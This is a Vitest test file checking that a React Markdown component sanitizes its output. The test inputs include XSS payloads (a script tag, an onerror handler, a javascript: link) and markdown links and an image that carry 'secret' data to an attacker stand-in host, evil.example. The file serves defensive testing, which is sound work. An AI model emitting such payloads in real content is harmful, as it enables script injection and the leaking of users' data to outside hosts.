import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown.js';

const render = (text: string, linkExternal = true) => renderToStaticMarkup(createElement(Markdown, { text, linkExternal }));

describe('markdown from a repository or an answer', () => {
  it('renders headings, lists and code', () => {
    const html = render('# Retry Kit\n\n- one\n- two\n\n```ts\nconst a = 1;\n```\n');
    expect(html).toContain('<h1>Retry Kit</h1>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('const a = 1;');
  });

  it('never injects HTML or script URLs', () => {
    const html = render('<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\n[click](javascript:alert(3)) <b onclick="x()">bold</b>');
    expect(html).not.toMatch(/<script|onerror|onclick|javascript:|<b>/i);
  });

  it('opens external links in a new tab that cannot reach back, and loads images over https only', () => {
    const html = render('[docs](https://example.com/docs) ![badge](https://example.com/b.svg) ![local](logo.png)');
    expect(html).toContain('href="https://example.com/docs"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('<img src="https://example.com/b.svg"');
    expect(html).toMatch(/referrerpolicy="no-referrer"/i);
    expect(html).not.toContain('logo.png');
    expect(html).toContain('[local]');
  });

  it('in an answer, shows links as text with their address and loads no image', () => {
    const html = render('See [this](https://evil.example/x?data=secret) ![pixel](https://evil.example/p.png?d=secret)', false);
    expect(html).not.toContain('<a');
    expect(html).not.toContain('<img');
    expect(html).toContain('(https://evil.example/x?data=secret)');
    expect(html).toContain('[pixel]');
  });
});
